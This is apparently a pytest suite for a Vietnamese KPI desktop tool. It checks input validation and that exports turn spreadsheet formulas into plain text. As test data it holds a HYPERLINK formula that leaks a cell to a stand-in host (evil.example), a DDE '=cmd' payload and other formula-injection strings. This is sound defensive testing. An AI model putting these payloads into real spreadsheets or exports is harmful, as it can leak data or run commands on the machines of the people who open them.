"""Hostile text in exports, and what people type or bring refused at the door (issue 14).

Each case runs the real program (a subprocess) and checks the exit code, the message, and
that the database is unchanged where nothing should change.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kpi_desktop.storage.backup import dump_database

from .cli_run import kpi

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Chi tiết")'


def _unchanged(folder: Path, before: list[str]) -> None:
    assert dump_database(folder / "kpi.db") == before


# ---------------------------------------------------------------- numbers and dates ----------


@pytest.mark.parametrize(("quantity", "needle"), [
    ("1e999999", "larger than any entry may hold (10000)"),
    ("1e-30", "more than two decimals"),
    ("0", "greater than zero"),
    ("NaN", "greater than zero"),
])
def test_implausible_quantities_exit_3(demo_dir: Path, quantity: str, needle: str) -> None:
    before = dump_database(demo_dir / "kpi.db")
    result = kpi(demo_dir, "log", "add", "--person", "vp-cv1", "--date", "2026-11-20",
                 "--item", "DC.01", "--quantity", quantity)
    assert result.returncode == 3, result.stderr
    assert needle in result.stderr
    assert "Traceback" not in result.stderr
    _unchanged(demo_dir, before)


def test_a_quantity_beyond_a_day_needs_a_confirmation(demo_dir: Path) -> None:
    before = dump_database(demo_dir / "kpi.db")
    args = ("log", "add", "--person", "vp-cv1", "--date", "2026-11-20", "--item", "DC.01",
            "--quantity", "50")
    refused = kpi(demo_dir, *args)
    assert refused.returncode == 3
    assert "The quantity 50 of item DC.01 is more than one day can hold (at most 48 by its " \
        "time norm)" in refused.stderr
    assert "--confirm-quantity" in refused.stderr
    _unchanged(demo_dir, before)
    vietnamese = kpi(demo_dir, *args, lang="vi")
    assert vietnamese.returncode == 3 and "vượt quá khối lượng của một ngày" in vietnamese.stderr
    confirmed = kpi(demo_dir, *args, "--confirm-quantity")
    assert confirmed.returncode == 0, confirmed.stderr


@pytest.mark.parametrize("args", [
    ("log", "add", "--person", "vp-cv1", "--date", "0001-01-01", "--item", "DC.01",
     "--quantity", "1"),
    ("log", "add", "--person", "vp-cv1", "--date", "2019-12-31", "--item", "DC.01",
     "--quantity", "1"),
    ("log", "add", "--person", "vp-cv1", "--date", "2026-11-20", "--item", "DC.01",
     "--quantity", "1", "--deadline", "9999-12-31"),
    ("calendar", "add", "--date", "0001-01-01", "--kind", "day_off", "--name", "Nghỉ",
     "--as", "ct"),
    ("calendar", "add", "--date", "2999-01-02", "--kind", "day_off", "--name", "Nghỉ",
     "--as", "ct"),
])
def test_dates_outside_2020_to_a_year_ahead_exit_3(demo_dir: Path, args: tuple[str, ...]) -> None:
    before = dump_database(demo_dir / "kpi.db")
    result = kpi(demo_dir, *args)
    assert result.returncode == 3, result.stderr
    assert "is not plausible: dates from 2020-01-01 to" in result.stderr
    assert "month:1:1" not in result.stderr
    _unchanged(demo_dir, before)


# ---------------------------------------------------------------- control characters ---------


@pytest.mark.parametrize(("option", "value"), [
    ("--description", "Công văn \x1b[31mđỏ"), ("--doc-number", "12\x7f/UBND"),
    ("--doc-number", "12\n/UBND"), ("--description", "\u202eevil")])
def test_control_characters_on_the_command_line_exit_3(demo_dir: Path, option: str,
                                                        value: str) -> None:
    before = dump_database(demo_dir / "kpi.db")
    result = kpi(demo_dir, "log", "add", "--person", "vp-cv1", "--date", "2026-11-20",
                 "--item", "DC.01", "--quantity", "1", option, value)
    assert result.returncode == 3, result.stderr
    assert "contains a control character (U+" in result.stderr
    assert ("--description" in result.stderr or "output document number" in result.stderr
            or "--doc-number" in result.stderr)
    _unchanged(demo_dir, before)


def _staff_csv(path: Path, *rows: list[str]) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["id", "full_name", "unit_id", "role"])
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def test_a_nul_in_a_staff_name_is_refused_with_its_row(demo_dir: Path, tmp_path: Path) -> None:
    staff = _staff_csv(tmp_path / "staff.csv", ["vp-new", "Lê Văn Mới", "vp", "official"],
                       ["vp-nul", "Nguyễn\x00Văn A", "vp", "official"])
    before = dump_database(demo_dir / "kpi.db")
    result = kpi(demo_dir, "org", "staff", str(staff))
    assert result.returncode == 3, result.stderr
    assert "row 3" in result.stderr
    assert "full name (full_name)" in result.stderr and "U+0000" in result.stderr
    _unchanged(demo_dir, before)
    # And every export still works (it did not before: IllegalCharacterError).
    out = tmp_path / "out"
    assert kpi(demo_dir, "export", "--to", str(out), "--period", "2026-11").returncode == 0


def test_a_huge_staff_cell_is_refused_with_its_row(demo_dir: Path, tmp_path: Path) -> None:
    staff = _staff_csv(tmp_path / "staff.csv", ["vp-new", "Lê Văn Mới", "vp", "official"],
                       ["vp-big", "x" * (10 * 1024 * 1024), "vp", "official"])
    before = dump_database(demo_dir / "kpi.db")
    result = kpi(demo_dir, "org", "staff", str(staff))
    assert result.returncode == 3, result.stderr
    assert "Traceback" not in result.stderr and "_csv.Error" not in result.stderr
    assert "row 3" in result.stderr and "more than 1000 characters" in result.stderr
    _unchanged(demo_dir, before)
    medium = _staff_csv(tmp_path / "medium.csv", ["vp-big", "y" * 5000, "vp", "official"])
    result = kpi(demo_dir, "org", "staff", str(medium))
    assert result.returncode == 3
    assert "row 2" in result.stderr and "full name (full_name)" in result.stderr
    _unchanged(demo_dir, before)


def test_a_control_character_in_a_catalog_cell_is_refused(demo_dir: Path,
                                                          tmp_path: Path) -> None:
    source = Path(__file__).resolve().parents[1] / "fixtures" / "nghia-lam-qd283-catalog.xlsx"
    book = load_workbook(source)
    sheet = next(ws for ws in book.worksheets if any(
        isinstance(c.value, str) and c.value.strip().lower() == "mã cv"
        for row in ws.iter_rows(max_row=20) for c in row))
    header_row = next(c.row for row in sheet.iter_rows(max_row=20) for c in row
                      if isinstance(c.value, str) and c.value.strip().lower() == "mã cv")
    target = sheet.cell(row=header_row + 2, column=4)
    target.value = "Tham mưu\x7f ban hành"  # XML cannot carry C0 controls; DEL it can
    bad = tmp_path / "catalog.xlsx"
    book.save(bad)
    before = dump_database(demo_dir / "kpi.db")
    result = kpi(demo_dir, "org", "catalog", str(bad), "--version", "v-bad")
    assert result.returncode == 3, result.stderr
    assert f"row {header_row + 2}" in result.stderr and "column D" in result.stderr
    assert "U+007F" in result.stderr
    _unchanged(demo_dir, before)
    missing = kpi(demo_dir, "org", "catalog", str(tmp_path / "nope.xlsx"), "--version", "v2")
    assert missing.returncode == 3 and "cannot be opened" in missing.stderr


# ---------------------------------------------------------------- exports --------------------


def _stored_by_the_application(demo_dir: Path, names: list[tuple[str, str]]) -> None:
    """Names as an older version of KPI Desktop stored them, through its own storage layer
    (so the row seals follow: an edit by another program would be reported as damage and the
    database refused, see docs/integrity.md)."""
    from kpi_desktop.storage.engine import Database

    db = Database(demo_dir / "kpi.db")
    try:
        with db.engine.begin() as connection:
            connection.exec_driver_sql("UPDATE people SET full_name = ? WHERE id = ?", names)
    finally:
        db.close()


def test_exports_hold_text_as_text_and_no_control_character(demo_dir: Path,
                                                             tmp_path: Path) -> None:
    added = kpi(demo_dir, "log", "add", "--person", "vp-cv1", "--date", "2026-11-20", "--item",
                "DC.01", "--quantity", "1", "--doc-number", "=1+1", "--description", HYPERLINK)
    assert added.returncode == 0, added.stderr
    # A staff name carrying a formula and a NUL, stored before issue 14 (or by an old copy).
    _stored_by_the_application(demo_dir, [
        ("=cmd|' /C calc'!A0\x00x", "vp-cv1"), ("@SUM(A1)", "vp-cv2"),
        ("\tTab\rCR", "hcc-cv1")])
    out = tmp_path / "out"
    result = kpi(demo_dir, "export", "--to", str(out), "--period", "2026-11")
    assert result.returncode == 0, result.stderr
    book = load_workbook(out / "kpi-2026-11.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'=1+1" in texts and "'" + HYPERLINK in texts
    assert "'=cmd|' /C calc'!A0\ufffdx" in texts and "'@SUM(A1)" in texts
    assert "'\tTab\nCR" in texts
    for name in ("scores-2026-11.csv", "worklog-2026-11.csv"):
        text = (out / name).read_text(encoding="utf-8-sig")
        assert "\x00" not in text
        values = [v for row in csv.reader(io.StringIO(text)) for v in row]
        assert not [v for v in values if v[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [v for v in values if v[:1] == "-" and not v[1:].replace(".", "").isdigit()]
    assert "'=1+1" in (out / "worklog-2026-11.csv").read_text(encoding="utf-8-sig")
    json_text = (out / "results-2026-11.json").read_text(encoding="utf-8")
    assert "\\u0000" not in json_text and "\ufffd" in json_text


def test_the_unit_kinds_csv_is_neutralised(demo_dir: Path, tmp_path: Path) -> None:
    _stored_by_the_application(demo_dir, [("=2+3", "vp-cv1")])
    from kpi_desktop.runtime.paths import app_paths
    from kpi_desktop.services.context import AppServices
    from kpi_desktop.services.kpi_kinds import KpiKindService

    services = AppServices.open(app_paths(demo_dir))
    try:
        kinds = KpiKindService(services.db)
        report = kinds.report("vp", "2026-11")
        path = kinds.write_csv(report, tmp_path / "kinds.csv")
    finally:
        services.close()
    text = path.read_text(encoding="utf-8-sig")
    assert "'=2+3" in text and ",=2+3" not in text


def test_a_new_workbook_cell_is_never_a_formula() -> None:
    from kpi_desktop.services.reports import _xlsx

    data = _xlsx([("Scores", ["full_name", "total"], [["=1+1", "1.5"], ["-x", ""]])])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A2"].value == "'=1+1" and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "'-x"
    assert Workbook  # the reader is openpyxl's own


def test_every_text_column_refuses_a_control_character_naming_it(demo_dir: Path) -> None:
    """The last net under the form checks: a name typed in any agency form."""
    from kpi_desktop.domain.errors import RefusedValue
    from kpi_desktop.runtime.paths import app_paths
    from kpi_desktop.services.context import AppServices
    from kpi_desktop.services.messages import describe

    services = AppServices.open(app_paths(demo_dir))
    try:
        before = dump_database(demo_dir / "kpi.db")
        with pytest.raises(RefusedValue) as refused:
            services.agency.add_person(person_id="vp-nul", full_name="Nguyễn\x00Văn A",
                                       unit_id="vp")
        assert refused.value.code == "text_control_character"
        assert refused.value.params["field"] == "full_name"
        assert describe(refused.value).startswith(
            "The full name contains a control character (U+0000)")
        assert dump_database(demo_dir / "kpi.db") == before
    finally:
        services.close()
